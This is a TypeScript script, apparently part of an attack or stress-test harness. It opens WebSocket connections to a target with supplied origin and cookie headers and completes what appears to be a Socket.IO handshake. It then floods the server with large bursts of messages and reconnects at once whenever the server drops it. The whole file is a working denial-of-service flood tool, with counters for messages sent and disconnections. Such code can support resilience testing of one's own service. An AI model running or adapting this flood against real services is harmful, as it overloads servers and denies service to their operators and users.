/** One page that sends as much as it can; thrown out, it knocks again at once. URL ORIGIN COOKIE CONNECT MESSAGE BYTES */
import { WebSocket } from 'ws';
import { attack, pause, sayReady } from './attacker.ts';

const [url = '', origin = '', cookie = '', connect = '', start = '', bytes = '0'] = process.argv.slice(2);
const message = start.replace('…', 'x'.repeat(Math.max(0, Number(bytes) - start.length + 1)));
/** Sent in one go, and waiting at most, so that the flood is the server's load and not this process's. */
const BURST = Math.max(1, Math.min(500, Math.floor(500_000 / message.length)));
const WAITING_AT_MOST = 1_000_000;

await attack(async (isStopped) => {
  sayReady();
  let sent = 0;
  let opened = 0;
  let thrownOut = 0;
  while (!isStopped()) {
    const socket = new WebSocket(url, { headers: { origin, cookie }, perMessageDeflate: false });
    socket.on('error', () => {});
    let isOpen = false;
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
    /** Before it has joined, all but the joining closes it. */
    const joined = new Promise<void>((resolve) => {
      socket.on('message', (data) => {
        const text = String(data);
        if (text === '2') socket.send('3');
        else if (text.startsWith('40')) resolve();
      });
    });
    socket.once('open', () => {
      isOpen = true;
      opened += 1;
      socket.send(connect);
    });
    await Promise.race([closed, joined]);
    while (isOpen && socket.readyState === WebSocket.OPEN && !isStopped()) {
      if (socket.bufferedAmount < WAITING_AT_MOST) {
        for (let one = 0; one < BURST; one += 1) socket.send(message);
        sent += BURST;
        await new Promise((resolve) => setImmediate(resolve));
      } else await pause(1);
    }
    if (!isStopped()) thrownOut += 1;
    socket.terminate();
    await pause(10);
  }
  return { sent, opened, thrownOut };
});
